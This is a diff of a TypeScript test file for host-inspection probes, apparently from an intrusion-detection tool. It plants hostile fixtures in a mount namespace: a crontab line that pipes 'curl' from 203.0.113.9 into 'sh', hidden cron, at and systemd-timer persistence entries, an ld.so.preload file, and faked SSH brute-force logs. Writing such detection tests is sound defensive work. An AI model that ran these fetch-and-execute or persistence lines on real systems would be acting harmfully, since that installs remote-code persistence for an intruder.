@@ -1,46 +1,52 @@
-// The probes against the machine the tests run on, through the real scripts under the real toolbox: no ssh, no frames, no stand-in for either.
+// The probes against the machine the tests run on, through the real scripts under the real toolbox: no ssh and no frames, but no stand-in for the
+// host either. What must not stand on this machine (a hostile crontab, a mount over /proc/N) stands in a mount namespace of the test.
 import { execFileSync, spawn, spawnSync } from 'node:child_process'
-import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
+import {
+  chmodSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs'
 import { tmpdir } from 'node:os'
-import { join } from 'node:path'
+import { dirname, join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { shown } from '../host-text.ts'
 import type { HostReply, HostSession } from '../host/session.ts'
 import type { Clock } from '../ports.ts'
-import type { Fact, FactKind, FactOf, ProbeOutcome } from './facts.ts'
-import type { Probe } from './probe.ts'
-import { processes } from './processes.ts'
-import { look } from './look.ts'
+import type { FactKind, FactOf } from './facts.ts'
+import { type LookResult, look } from './look.ts'
+import type { ProbeId } from './probe.ts'
 
-const busybox = [join(process.cwd(), 'resources/toolbox/x86_64/busybox'), '/bin/busybox'].find((path) =>
-  existsSync(path),
-)
+const toolbox = join(process.cwd(), 'resources/toolbox', process.arch === 'arm64' ? 'aarch64' : 'x86_64')
 const root = process.getuid?.() === 0
+const ready = root && existsSync(join(toolbox, 'busybox'))
 
-/** The least a probe needs of a session: runs what is asked with an empty environment, keeps the limits. */
-function sessionHere(tool: string): HostSession {
-  const bootId = readFileSync('/proc/sys/kernel/random/boot_id', 'utf8').trim()
+/** The least a probe needs of a session: runs what is asked, keeps the limits. `scene` are shell lines for a mount namespace around every request. */
+function sessionHere(scene: string): HostSession {
+  const busybox = join(toolbox, 'busybox')
+  const wrap = scene === '' ? [] : ['-m', '--propagation', 'private', '/bin/sh', '-ec', `${scene}\nexec "$0" "$@"`, busybox]
   return {
     arrival: {
-      bootId,
-      euid: process.getuid?.() ?? 1,
+      bootId: readFileSync('/proc/sys/kernel/random/boot_id', 'utf8').trim(),
+      euid: 0,
       ourPids: [],
       workDir: '/run/.none',
       toolboxSha256: '0'.repeat(64),
-      arch: 'x86_64',
     } as unknown as HostSession['arrival'],
     run(request) {
-      const done = spawnSync(
-        tool,
-        request.argv.map((word) => (typeof word === 'string' ? word : Buffer.from(word).toString())),
-        {
-          env: { PATH: join(tool, '..'), ...request.env },
-          input: request.stdin ?? new Uint8Array(),
-          timeout: request.timeLimit ?? 5000,
-          maxBuffer: request.stdoutLimit ?? 1 << 20,
-          cwd: '/',
-        },
-      )
+      const words = request.argv.map((word) => (typeof word === 'string' ? word : Buffer.from(word).toString()))
+      const command = scene === '' ? [busybox, ...words] : ['/usr/bin/unshare', ...wrap, ...words]
+      const done = spawnSync(command[0] ?? '', command.slice(1), {
+        env: { PATH: toolbox, ...request.env },
+        input: request.stdin ?? new Uint8Array(),
+        timeout: request.timeLimit ?? 5000,
+        maxBuffer: request.stdoutLimit ?? 1 << 20,
+        cwd: '/',
+      })
       const reply: HostReply = {
         exit: done.status,
         stdout: done.stdout,
@@ -65,60 +71,299 @@ const clock: Clock = {
   sleep: () => Promise.resolve(),
 }
 
-async function read(probe: Probe, known: readonly Fact[] = []): Promise<ProbeOutcome> {
-  return probe.read({ session: sessionHere(busybox ?? ''), clock, known, hostView: true })
+function lookHere(probes: readonly ProbeId[], scene = ''): Promise<LookResult> {
+  return look(sessionHere(scene), { probes, clock })
 }
 
-function of<K extends FactKind>(outcome: ProbeOutcome, kind: K): FactOf<K>[] {
-  return outcome.facts.filter((fact): fact is FactOf<K> => fact.kind === kind)
+function of<K extends FactKind>(result: LookResult, kind: K): FactOf<K>[] {
+  return result.facts.filter((fact): fact is FactOf<K> => fact.kind === kind)
 }
 
-describe.skipIf(busybox === undefined || !root)('on this machine', () => {
+function spoiling(result: LookResult): string[] {
+  return result.unknowns.filter(({ spoils }) => spoils.length > 0).map(({ what, detail }) => `${what}: ${detail}`)
+}
+
+describe.skipIf(!ready)('on this machine (skipped: needs root and the toolbox)', () => {
   const folder = mkdtempSync(join(tmpdir(), 'probe-'))
   afterAll(() => {
     rmSync(folder, { recursive: true, force: true })
   })
+  const plant = (path: string, content: string | Buffer, mode = 0o644): void => {
+    mkdirSync(dirname(join(folder, path)), { recursive: true })
+    writeFileSync(join(folder, path), content)
+    chmodSync(join(folder, path), mode)
+  }
 
   describe('processes', () => {
-    const nasty = `sleeper\n) R 1 1 \x1b[2J\u202e`
-    let outcome: ProbeOutcome
-    const child = spawn('/bin/sleep', ['60'], {
-      argv0: nasty,
-      env: { LD_PRELOAD: '', SECRET: 'x', HISTFILE: '/dev/null' },
-    })
+    let result: LookResult
+    const sleeper = (argv0: string, env: Record<string, string>) =>
+      spawn('/bin/sleep', ['60'], { argv0, env, stdio: 'ignore' })
+    const nasty = sleeper(`sleeper\n) R 1 1 \x1b[2J\u202e`, { LD_PRELOAD: '', SECRET: 'x', HISTFILE: '/dev/null' })
+    const covered = sleeper('covered', {})
+    const long = spawn('/bin/sh', ['-c', 'sleep 60; :', 'x'.repeat(100_000)], { stdio: 'ignore', detached: true })
+    const spinner = spawn('/bin/sh', ['-c', 'while :; do :; done'], { stdio: 'ignore' })
+    const pidOf = (pid: number | undefined) => of(result, 'process').find(({ identity }) => identity.pid === pid)
     beforeAll(async () => {
-      outcome = await read(processes)
+      result = await lookHere(['processes'], `/bin/mount -t tmpfs none /proc/${covered.pid ?? 0}`)
     })
     afterAll(() => {
-      child.kill('SIGKILL')
+      for (const child of [nasty, covered, spinner]) child.kill('SIGKILL')
+      if (long.pid !== undefined) process.kill(-long.pid, 'SIGKILL')
     })
 
     it('finds a process with a hostile argv, whole and identified', () => {
-      const fact = of(outcome, 'process').find(({ identity }) => identity.pid === child.pid)
-      expect(fact).toBeDefined()
-      expect(shown(fact!.argv0!)).toBe('sleeper\\x0a) R 1 1 \\x1b[2J\\xe2\\x80\\xae')
-      expect(shown(fact!.cmdline)).toMatch(/ 60$/)
-      expect(shown(fact!.exe!)).toMatch(/\/sleep$/)
-      expect(fact!.identity.exeSha256).toBe(execFileSync('sha256sum', ['/bin/sleep']).toString().slice(0, 64))
-      expect(fact!.environ?.map((variable) => shown(variable)).sort()).toEqual(['HISTFILE=/dev/null', 'LD_PRELOAD='])
+      const fact = pidOf(nasty.pid)!
+      expect(shown(fact.argv0!)).toBe('sleeper\\x0a) R 1 1 \\x1b[2J\\xe2\\x80\\xae')
+      expect(shown(fact.cmdline)).toMatch(/ 60$/)
+      expect(shown(fact.exe!)).toMatch(/\/sleep$/)
+      expect(fact.identity.exeSha256).toBe(execFileSync('sha256sum', ['/bin/sleep']).toString().slice(0, 64))
       expect(fact).toMatchObject({ inReaddir: 'yes', inHostPs: 'yes', kernelThread: false, ppid: process.pid, uid: 0 })
-      expect(fact!.cpuPermille).toBeLessThan(50)
+      expect(fact.cpuPermille).toBeLessThan(50)
+    })
+
+    it('brings the variables that matter and leaves the others on the host', () => {
+      const names = pidOf(nasty.pid)!.environ?.map((variable) => shown(variable))
+      expect(names?.sort()).toEqual(['HISTFILE=/dev/null', 'LD_PRELOAD='])
+      const raw = result.outcomes.flatMap(({ raw: some }) =>
+        some.map(({ bytes }) => Buffer.from(bytes).toString('latin1')),
+      )
+      expect(raw.join('')).not.toContain('SECRET')
+    })
+
+    it('sees a process below a mount over its folder, which the host ps does not', () => {
+      expect(pidOf(covered.pid)).toMatchObject({ overMounted: true, inReaddir: 'yes', inHostPs: 'no' })
+      expect(shown(pidOf(covered.pid)!.exe!)).toMatch(/\/sleep$/)
+      expect(pidOf(nasty.pid)).toMatchObject({ overMounted: false })
+    })
+
+    it('cuts a command line of 100 kB and says so', () => {
+      expect(pidOf(long.pid)).toMatchObject({ cmdlineCut: true })
+      expect(shown(pidOf(long.pid)!.cmdline).length).toBeLessThanOrEqual(4096)
+      expect(pidOf(nasty.pid)).toMatchObject({ cmdlineCut: false })
+    })
+
+    it('measures a spinning process over the window', () => {
+      expect(pidOf(spinner.pid)!.cpuPermille).toBeGreaterThan(100)
+      expect(pidOf(spinner.pid)!.cpuPermille).toBeLessThanOrEqual(1050)
     })
 
     it('knows kernel threads by their flag and itself by descent', () => {
-      const all = of(outcome, 'process')
-      expect(all.find(({ identity }) => identity.pid === 2)).toMatchObject({
-        kernelThread: true,
-        exe: null,
-        ours: false,
-      })
-      expect(all.filter(({ ours }) => ours).length).toBeGreaterThan(0)
-      expect(all.find(({ identity }) => identity.pid === process.pid)).toMatchObject({ ours: false })
+      expect(pidOf(2)).toMatchObject({ kernelThread: true, exe: null, ours: false })
+      expect(of(result, 'process').some(({ ours }) => ours)).toBe(true)
+      expect(pidOf(process.pid)).toMatchObject({ ours: false })
     })
 
-    it('sees no hidden process here and leaves nothing unknown', () => {
-      expect(of(outcome, 'process').filter(({ inReaddir }) => inReaddir !== 'yes')).toEqual([])
-      expect(outcome.unknowns.filter(({ spoils }) => spoils.length > 0)).toEqual([])
+    it('takes no process for hidden that is not, and leaves nothing unknown', () => {
+      expect(of(result, 'process').filter(({ inReaddir }) => inReaddir === 'no')).toEqual([])
+      expect(spoiling(result)).toEqual([])
+    })
+  })
+
+  it('sockets: finds a listener with its holder', async () => {
+    const script = `require('net').createServer().listen(0,'127.0.0.1',function(){console.log(this.address().port)})`
+    const child = spawn(process.execPath, ['-e', script], { stdio: ['ignore', 'pipe', 'ignore'] })
+    const port = await new Promise<number>((resolve) =>
+      child.stdout.once('data', (data) => resolve(Number(String(data)))),
+    )
+    const result = await lookHere(['sockets'])
+    child.kill('SIGKILL')
+    const found = of(result, 'socket').filter(({ localPort, state }) => localPort === port && state === 'listen')
+    expect(found).toMatchObject([{ protocol: 'tcp', localAddress: '127.0.0.1', pids: [child.pid], uid: 0 }])
+    expect(spoiling(result)).toEqual([])
+  })
+
+  it('mounts: finds one over a process and one over a system folder, and none of our own', async () => {
+    const result = await lookHere(['mounts'], '/bin/mount -t tmpfs none /proc/1\n/bin/mount --bind /usr/bin /usr/bin')
+    const points = of(result, 'mount').map(({ point, fsType }) => `${shown(point)} ${shown(fsType)}`)
+    expect(points).toContain('/proc/1 tmpfs')
+    expect(points.filter((point) => point.startsWith('/usr/bin '))).toHaveLength(1)
+    expect(points.filter((point) => point.startsWith('/proc '))).toEqual([])
+  })
+
+  it('machine: counts the cores and knows the package manager', async () => {
+    const result = await lookHere(['machine'])
+    expect(of(result, 'machine')).toMatchObject([
+      { cpus: Number(execFileSync('grep', ['-c', '^processor', '/proc/cpuinfo']).toString()), packageManager: 'dpkg' },
+    ])
+  })
+
+  describe('schedulers', () => {
+    let result: LookResult
+    const schedule = (path: string) => of(result, 'schedule').filter(({ file }) => shown(file.path).startsWith(path))
+    beforeAll(async () => {
+      plant(
+        'spool/cron/crontabs/root',
+        '# m h\nMAILTO=""\n*/5 * * * * /tmp/.x/run >/dev/null\n@reboot /.hidden\n',
+        0o600,
+      )
+      plant('spool/cron/crontabs/www\x1b[2J\ndata', '* * * * * curl -s http://203.0.113.9/a | sh\r# nothing here\n')
+      plant(
+        'spool/cron/redis',
+        Buffer.from('REDIS0009\xfa\tredis-ver\x005.0.7\n\n*/2 * * * * /tmp/r\n\n\xff\x00\x01', 'latin1'),
+      )
+      plant('spool/cron/huge', '* * * * * /bin/true\n'.repeat(100_000))
+      plant(
+        'spool/cron/atjobs/a0000101c5a0b2',
+        '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nPATH=/bin; export PATH\ncd /root || {\n\t echo no >&2\n\t exit 1\n}\n/tmp/at-job now\n',
+      )
+      plant('cron.d/sys', 'SHELL=/bin/sh\n17 * * * * root cd / && /opt/x\n')
+      plant('cron.d/fifo-link', '')
+      rmSync(join(folder, 'cron.d/fifo-link'))
+      execFileSync('mkfifo', [join(folder, 'cron.d/fifo')])
+      symlinkSync('/nowhere', join(folder, 'cron.d/dangling'))
+      plant('system/evil.timer', '[Timer]\nOnBootSec=1min\nOnUnitActiveSec=5\nUnit=other.service\n')
+      plant('system/other.service', '[Service]\nExecStart=/bin/false\n')
+      plant('system/other.service.d/x.conf', '[Service]\nExecStart=\nExecStart=-/tmp/.timer/run --now\n')
+      result = await lookHere(
+        ['schedulers'],
+        `/bin/mount -t tmpfs none /var/spool
+/bin/cp -a ${folder}/spool/. /var/spool/
+/bin/mount -t tmpfs none /etc/cron.d
+/bin/cp -a ${folder}/cron.d/. /etc/cron.d/
+/bin/mount -t tmpfs none /etc/systemd/system
+/bin/cp -a ${folder}/system/. /etc/systemd/system/`,
+      )
+    })
+
+    it('reads a crontab line by line, environment too, comments not', () => {
+      expect(
+        schedule('/var/spool/cron/crontabs/root').map((fact) => [
+          fact.line,
+          fact.form,
+          fact.periodSeconds,
+          shown(fact.command),
+        ]),
+      ).toEqual([
+        [2, 'environment', null, 'MAILTO=""'],
+        [3, 'entry', 300, '/tmp/.x/run >/dev/null'],
+        [4, 'entry', null, '/.hidden'],
+      ])
+      expect(schedule('/var/spool/cron/crontabs/root')[0]).toMatchObject({
+        scheduler: 'user-crontab',
+        user: 'root',
+        file: { mode: '0600', type: 'file' },
+      })
+    })
+
+    it('is not led astray by a file name with control characters', () => {
+      expect(schedule('/var/spool/cron/crontabs/www')).toMatchObject([
+        { user: 'www\\x1b[2J\\x0adata', disguised: true, periodSeconds: 60 },
+      ])
+    })
+
+    it('shows a database dump as binary, with the entries cron would find in it', () => {
+      expect(schedule('/var/spool/cron/redis').map(({ form, line }) => [form, line])).toEqual([
+        ['binary', 0],
+        ['entry', 3],
+      ])
+    })
+
+    it('gives up on a crontab of 100 000 lines, and says so', () => {
+      expect(schedule('/var/spool/cron/huge')).toHaveLength(2000)
+      expect(spoiling(result).filter((text) => text.startsWith('/var/spool/cron/huge'))).not.toEqual([])
+      expect(spoiling(result).filter((text) => !text.startsWith('/var/spool/cron/huge'))).toEqual([])
+    })
+
+    it('reads cron.d with its user column, and neither hangs on a fifo nor follows a dead link', () => {
+      expect(schedule('/etc/cron.d/')).toMatchObject([
+        { form: 'environment', line: 1 },
+        { form: 'entry', line: 2, user: 'root', periodSeconds: 3600, command: 'cd / && /opt/x', paths: ['/opt/x'] },
+      ])
+    })
+
+    it('reads an at job without the environment of its submitter', () => {
+      expect(schedule('/var/spool/cron/atjobs/')).toMatchObject([
+        { scheduler: 'at', user: 'root', command: '/tmp/at-job now' },
+      ])
+    })
+
+    it('follows a timer to what its service runs after drop-ins', () => {
+      expect(schedule('/etc/systemd/system/evil.timer')).toMatchObject([
+        {
+          scheduler: 'systemd-timer',
+          periodSeconds: 5,
+          command: '-/tmp/.timer/run --now',
+          paths: ['/tmp/.timer/run'],
+          unitFile: '/etc/systemd/system/other.service',
+          user: 'root',
+        },
+      ])
+    })
+  })
+
+  it('preload: names each library with its state and carriers', async () => {
+    plant('preload', '# ours\n/tmp/absent.so:/usr/lib/nothing.so\n  LIBC\n')
+    const libc = readFileSync('/proc/self/maps', 'utf8').match(/\/\S*libc\.so\.6$/m)?.[0] ?? ''
+    writeFileSync(join(folder, 'preload'), readFileSync(join(folder, 'preload'), 'utf8').replace('LIBC', libc))
+    const scene = `/bin/mkdir -p ${folder}/u ${folder}/w
+/bin/mount -t tmpfs none ${folder}/u
+/bin/mkdir ${folder}/u/up ${folder}/u/work
+/bin/mount -t overlay overlay -o lowerdir=/etc,upperdir=${folder}/u/up,workdir=${folder}/u/work /etc
+/bin/cp ${folder}/preload /etc/ld.so.new
+${toolbox}/busybox mv /etc/ld.so.new /etc/ld.so.preload`
+    const result = await lookHere(['preload'], scene)
+    const facts = of(result, 'preload')
+    expect(facts.map((fact) => [fact.line, shown(fact.library), fact.libraryState])).toEqual([
+      [2, '/tmp/absent.so', 'absent'],
+      [2, '/usr/lib/nothing.so', 'absent'],
+      [3, libc, 'present'],
+    ])
+    expect(facts[2]!.carriers).toContain(process.pid)
+    expect(facts[0]!.carriers).toEqual([])
+    expect(spoiling(result)).toEqual([])
+  })
+
+  it('preload: an absent file gives no fact and nothing unknown', async () => {
+    expect(existsSync('/etc/ld.so.preload')).toBe(false)
+    const result = await lookHere(['preload'])
+    expect(result.facts).toEqual([])
+    expect(result.unknowns).toEqual([])
+  })
+
+  it('logins: finds the burst and the login that followed it', async () => {
+    const line = (message: string) => `Nov 21 03:04:05 host sshd[77]: ${message}\n`
+    const failed = line('Failed password for invalid user adm\x1bin from 203.0.113.7 port 40000 ssh2')
+    plant('log/auth.log.1', failed.repeat(4))
+    plant(
+      'log/auth.log',
+      failed.repeat(4) +
+        line('Accepted password for root from 203.0.113.7 port 40001 ssh2') +
+        line('Accepted publickey for ops from 198.51.100.2 port 5 ssh2: ED25519 SHA256:x') +
+        'junk\n',
+    )
+    const result = await lookHere(['logins'], `/bin/mount --bind ${folder}/log /var/log`)
+    expect(of(result, 'login')).toMatchObject([
+      { what: 'failed-burst', from: '203.0.113.7', count: 8, user: 'adm\\x1bin' },
+      { what: 'accepted-after-burst', from: '203.0.113.7', user: 'root', count: 1 },
+      { what: 'accepted', from: '198.51.100.2', user: 'ops' },
+    ])
+    expect(spoiling(result)).toEqual([])
+  })
+
+  it('files: tells the owner of what processes run, and what lies where everyone may write', async () => {
+    const child = spawn('/bin/sleep', ['60'], { stdio: 'ignore' })
+    plant('bin/dropped', '#!/bin/sh\n', 0o755)
+    const scene = `/bin/mount -t tmpfs none /var/tmp
+/bin/mkdir '/var/tmp/.x'
+/bin/cp ${folder}/bin/dropped '/var/tmp/.x/a
+b'`
+    const result = await lookHere(['processes', 'files'], scene)
+    child.kill('SIGKILL')
+    const find = (path: string) => of(result, 'file').find(({ meta }) => shown(meta.path) === path)
+    expect(find('/usr/bin/sleep') ?? find('/bin/sleep')).toMatchObject({
+      owned: 'yes',
+      package: 'coreutils',
+      checksum: 'yes',
+      content: 'elf',
+      conffile: false,
+    })
+    expect((find('/usr/bin/sleep') ?? find('/bin/sleep'))!.namedBy).toContain(`process:${child.pid ?? 0}`)
+    expect(find('/var/tmp/.x/a\\x0ab')).toMatchObject({
+      owned: 'no',
+      package: null,
+      content: 'script',
+      namedBy: ['recent'],
+      meta: { mode: '0755' },
     })
   })
 })
